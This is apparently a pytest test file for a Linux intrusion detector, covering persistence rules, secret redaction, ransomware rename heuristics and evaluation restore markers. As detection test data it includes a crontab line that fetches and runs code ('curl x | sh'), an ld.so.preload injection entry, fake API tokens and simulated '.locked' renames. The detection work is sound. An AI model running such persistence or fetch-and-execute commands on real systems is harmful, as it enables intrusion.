"""Persistence rules, content diffs without secrets, the catalogue plan, ransomware counts, the
restore markers of the evaluation: no kernel needed."""

from __future__ import annotations

import base64
import dataclasses
import os
import pwd
from pathlib import Path

import pytest

from fluxtui.capabilities.persistence_places import (
    dir_waits,
    expand,
    login_homes,
    make_plan,
)
from fluxtui.config import (
    Config,
    ConfigError,
    PersistencePlace,
    RansomwareConfig,
    RuleException,
    RulesConfig,
    parse_config,
)
from fluxtui.detection.persistence_rules import (
    RULE_CRON,
    RULE_EXPECTED,
    RULE_KEY,
    RULE_UNEXPECTED,
    Change,
    Writer,
    diff,
    judge,
    parse_authorized_key,
    read_content,
    redact,
)
from fluxtui.detection.ransomware import RULE_RENAME, RULE_REWRITE, RansomwareDetector
from fluxtui.detection.syscall_rules import RuleFilter, Subject
from fluxtui.ecs import document
from fluxtui.evaluation.restore import restore_stale
from fluxtui.events import FileChange, ProcessKey, Severity

KEY = ProcessKey(4242, 777)
BLOB = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(32))).decode()
CRON = PersistencePlace("/var/spool/cron", "T1053.003", "crontab", writers=["/usr/bin/crontab"])
KEYS = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys",
                        severity="medium")
PASSWD = PersistencePlace("/etc/passwd", "T1136.001", writers=["/usr/sbin/useradd"])


def writer(exe: str = "/usr/bin/python3", verified: bool = False, manager: str = "") -> Writer:
    return Writer(KEY.pid, KEY, exe, os.path.basename(exe), 0, "root", (), "", verified,
                  manager)


def change(place: PersistencePlace, old: bytes | None, new: bytes | None, who: Writer,
           path: str = "/x") -> Change:
    def content(data: bytes | None):  # type: ignore[no-untyped-def]
        return None if data is None else read_content(place.kind, data)
    return Change(1.0, path, place, ("written",), who,
                  diff(place.kind, content(old), content(new)))


def test_authorized_keys_show_type_comment_fingerprint_never_the_key() -> None:
    info = parse_authorized_key(f'from="10.0.0.1",no-pty ssh-ed25519 {BLOB} eve@laptop')
    assert info is not None and info.key_type == "ssh-ed25519" and info.comment == "eve@laptop"
    assert info.fingerprint.startswith("SHA256:") and BLOB[20:40] not in info.describe()
    c = change(KEYS, b"# keys\n", f"# keys\nssh-ed25519 {BLOB} eve@laptop\n".encode(),
               writer())
    found = {f.rule_id: f for f in judge(c, 50, 5)}
    assert found[RULE_KEY].severity is Severity.MEDIUM and found[RULE_KEY].points == 50
    assert "eve@laptop" in found[RULE_KEY].reason and BLOB[20:40] not in repr(found)
    assert found[RULE_UNEXPECTED].severity is Severity.MEDIUM


def test_a_new_crontab_entry_alerts_even_by_its_expected_writer() -> None:
    c = change(CRON, b"# m h dom mon dow\n", b"# m h dom mon dow\n* * * * * curl x | sh\n",
               writer("/usr/bin/crontab", verified=True))
    found = {f.rule_id: f for f in judge(c, 50, 5)}
    assert set(found) == {RULE_EXPECTED, RULE_CRON}
    assert found[RULE_EXPECTED].severity is Severity.LOW
    assert found[RULE_CRON].severity is Severity.MEDIUM
    reason = found[RULE_CRON].reason
    assert "curl x | sh" in reason and "/usr/bin/crontab" in reason
    # a comment added is no entry
    quiet = change(CRON, b"", b"# just a comment\n", writer("/usr/bin/crontab", verified=True))
    assert {f.rule_id for f in judge(quiet, 50, 5)} == {RULE_EXPECTED}


def test_expected_writer_needs_verification_and_the_list_or_a_package_manager() -> None:
    old, new = b"root:x:0:0::/root:/bin/bash\n", b"root:x:0:0::/root:/bin/bash\nu:x:1:1::/:/x\n"
    assert judge(change(PASSWD, old, new, writer("/usr/sbin/useradd", True)), 50, 5)[0].rule_id \
        == RULE_EXPECTED
    # the same path, not verified (a copy that was modified): an alert
    unverified = judge(change(PASSWD, old, new, writer("/usr/sbin/useradd", False)), 50, 5)
    assert unverified[0].rule_id == RULE_UNEXPECTED and unverified[0].severity is Severity.HIGH
    # a maintainer script under a verified dpkg
    script = writer("/usr/bin/perl", True, manager="/usr/bin/dpkg")
    assert judge(change(PASSWD, old, new, script), 50, 5)[0].rule_id == RULE_EXPECTED
    assert judge(change(PASSWD, old, new, writer("/usr/bin/perl", True)), 50, 5)[0].rule_id \
        == RULE_UNEXPECTED


def test_shadow_diff_names_users_only() -> None:
    place = PersistencePlace("/etc/shadow", "T1098", "shadow")
    old = b"root:$6$salt$HASHONE:19000:0:99999:7:::\nbob:!:1::::::\n"
    new = b"root:$6$salt$HASHTWO:19001:0:99999:7:::\nbob:!:1::::::\nmallory:$6$x$y:1::::::\n"
    d = change(place, old, new, writer()).diff
    assert d.added == ("entry of user mallory changed", "entry of user root changed")
    assert "HASH" not in repr(d) and "salt" not in repr(d)


@pytest.mark.parametrize(("line", "hidden"), [
    ("export GITHUB_TOKEN=ghp_AbCdEf0123456789AbCdEf0123456789abcd", "ghp_AbCdEf0123"),
    ("curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc123def456'",
     "eyJhbGciOiJIUzI1NiJ9"),
])
def test_long_tokens_are_redacted_paths_and_words_stay(line: str, hidden: str) -> None:
    shown = redact(line)
    assert hidden not in shown and "[redacted" in shown
    assert redact("ExecStart=/usr/local/lib/something/very-long-directory-name/run.sh") == \
        "ExecStart=/usr/local/lib/something/very-long-directory-name/run.sh"


def test_hostile_lines_are_shown_literally() -> None:
    d = diff("text", None, read_content("text", b"\x1b[31mred\x1b[0m [b]x[/b] \xff\n"))
    assert d.added == ("\\x1b[31mred\\x1b[0m [b]x[/b] \\xff",)


def test_unseen_crontab_is_a_medium_alert() -> None:
    gone = dataclasses.replace(diff("crontab", None, None), unseen=True)
    c = Change(1.0, "/var/spool/cron/crontabs/u", CRON, ("renamed in",),
               writer("/usr/bin/crontab", True), gone)
    rules = {f.rule_id: f for f in judge(c, 50, 5)}
    assert rules[RULE_CRON].severity is Severity.MEDIUM and "gone before" in rules[RULE_CRON].reason


def test_rules_use_the_common_disabled_and_exceptions() -> None:
    rf = RuleFilter(RulesConfig(disabled=["persistence.expected_change"], exceptions=[
        RuleException(rule="persistence.unexpected_write", executable="/usr/bin/vim*")]))
    assert not rf.allows(RULE_EXPECTED, Subject())
    assert not rf.allows(RULE_UNEXPECTED, Subject(executable="/usr/bin/vim.basic"))
    assert rf.allows(RULE_UNEXPECTED, Subject(executable="/usr/bin/python3"))


def test_plan_marks_parents_of_files_dirs_with_depth_and_waits_for_missing(tmp_path: Path
                                                                           ) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    etc = tmp_path / "etc"
    (etc / "systemd" / "system" / "multi-user.target.wants").mkdir(parents=True)
    places = [KEYS, PersistencePlace("~/.config/systemd/user", "T1543.002", depth=1),
              PersistencePlace(str(etc / "systemd" / "system"), "T1543.002", depth=1)]
    plan = make_plan(expand(places, [str(home)]))
    assert plan.place_of(str(home / ".ssh"), "authorized_keys") is not None
    assert plan.place_of(str(home / ".ssh"), "config") is None
    wants = str(etc / "systemd" / "system" / "multi-user.target.wants")
    assert plan.place_of(wants, "x.service") is not None
    # ~/.config does not exist: the home is marked for it, the plan redone when it appears
    assert dir_waits(plan, str(home), ".config") and not dir_waits(plan, str(home), "Music")
    assert str(home / ".config") not in plan.rules


def test_login_homes_skip_nologin_users(tmp_path: Path) -> None:
    real = tmp_path / "alice"
    real.mkdir()
    entries = [pwd.struct_passwd(("alice", "x", 1000, 1000, "", str(real), "/bin/bash")),
               pwd.struct_passwd(("www", "x", 33, 33, "", str(tmp_path), "/usr/sbin/nologin")),
               pwd.struct_passwd(("gone", "x", 1001, 1001, "", "/nonexistent", "/bin/sh"))]
    assert login_homes(entries) == [str(real)]


def test_ransomware_renames_with_new_names_alert_atomic_saves_do_not() -> None:
    det = RansomwareDetector(RansomwareConfig(renames=100))
    det.observe_counts(KEY, {"rename": 120, "write": 120}, 10.0)
    for i in range(120):
        det.observe_rename(KEY, f"/home/a/doc{i}.pdf", f"/home/a/doc{i}.pdf.locked", 10.0)
    (found,) = det.check(KEY, 10.5, bulk_renamer=False)
    assert found.rule_id == RULE_RENAME and found.technique[0] == "T1486"
    assert "120 renames" in found.reason and ".locked" in found.reason
    assert found.extra["directories"] == ["/home/a"]
    assert det.check(KEY, 11.0, bulk_renamer=False) == []  # once per process
    saver = ProcessKey(7, 7)
    det.observe_counts(saver, {"rename": 150}, 10.0)
    for i in range(150):
        det.observe_rename(saver, f"/src/f{i}.py.tmp", f"/src/f{i}.py", 10.0)
    assert det.check(saver, 10.5, bulk_renamer=False) == []


def test_ransomware_without_names_waits_then_counts_alone() -> None:
    det = RansomwareDetector(RansomwareConfig(renames=100))
    det.observe_counts(KEY, {"renameat2": 200}, 10.0)
    assert det.check(KEY, 10.0, bulk_renamer=False) == []  # names may still come
    assert det.check(KEY, 14.0, bulk_renamer=True) == []  # a verified bulk renamer
    other = ProcessKey(9, 9)
    det.observe_counts(other, {"renameat2": 200}, 10.0)
    det.check(other, 10.0, bulk_renamer=False)
    assert [f.rule_id for f in det.check(other, 14.0, bulk_renamer=False)] == [RULE_RENAME]
    # outside the window the counts are forgotten
    late = ProcessKey(10, 10)
    det.observe_counts(late, {"rename": 60}, 0.0)
    det.observe_counts(late, {"rename": 60}, 20.0)
    assert det.totals(late, 20.0).renames == 60


def test_ransomware_rewrite_needs_deletes_and_writes() -> None:
    det = RansomwareDetector(RansomwareConfig(rewrites=200))
    det.observe_counts(KEY, {"unlinkat": 300, "write": 300}, 1.0)
    assert [f.rule_id for f in det.check(KEY, 1.0, bulk_renamer=False)] == [RULE_REWRITE]
    rm = ProcessKey(5, 5)
    det.observe_counts(rm, {"unlinkat": 3000}, 1.0)  # rm -rf: no writes
    assert det.check(rm, 1.0, bulk_renamer=False) == []


def test_config_section_validates() -> None:
    cfg = parse_config("persistence:\n  places:\n    - {path: /etc/x, technique: T1546, "
                       "kind: crontab, depth: 1}\n  ransomware: {renames: 50}\n", "t.yml")
    assert cfg.persistence.places[0].kind == "crontab"
    assert cfg.persistence.ransomware.renames == 50
    with pytest.raises(ConfigError, match=r"persistence\.places\[0\]\.kind"):
        parse_config("persistence:\n  places:\n    - {path: /x, kind: binary}\n", "t.yml")
    assert any(p.path == "/etc/ld.so.preload" for p in Config().persistence.places)


def test_file_change_ecs_document() -> None:
    doc = document(FileChange(1.0, "/etc/ld.so.preload", "/etc/ld.so.preload", "T1574.006",
                              ("created",), 12, "/usr/bin/bash", "root", True, "",
                              ("+ /tmp/x.so",)))
    assert doc["event"]["dataset"] == "fluxtui.persistence"
    assert doc["event"]["type"] == ["creation"] and doc["file"]["path"] == "/etc/ld.so.preload"


def test_restore_markers_of_gone_owners(tmp_path: Path) -> None:
    target = tmp_path / "preload"
    target.write_bytes(b"orig\x00bytes")
    target.chmod(0o640)
    created = tmp_path / "new"
    dead = 2 ** 22 + 12345  # above pid_max's default: no such process
    for name, path, extra in (("a", target, "backup"), ("b", created, "absent")):
        marker = tmp_path / "root" / name
        marker.mkdir(parents=True)
        (marker / "path").write_text(str(path))
        if extra == "backup":
            import shutil
            shutil.copy2(path, marker / "backup")
        else:
            (marker / "absent").write_text("")
        (marker / "owner").write_text(f"{dead}\n")
    live = tmp_path / "root" / "c"
    live.mkdir()
    (live / "path").write_text(str(target))
    (live / "absent").write_text("")
    (live / "owner").write_text(f"{os.getpid()}\n")  # alive: never touched
    partial = tmp_path / "root" / "d"
    partial.mkdir()
    (partial / "path").write_text(str(target))
    (partial / "absent").write_text("")  # no owner: nothing was changed yet
    target.write_bytes(b"changed")
    created.write_text("made by the scenario")
    done = restore_stale(tmp_path / "root")
    assert target.read_bytes() == b"orig\x00bytes" and (target.stat().st_mode & 0o777) == 0o640
    assert not created.exists() and len(done) == 2
    assert live.is_dir() and not partial.exists() and target.exists()
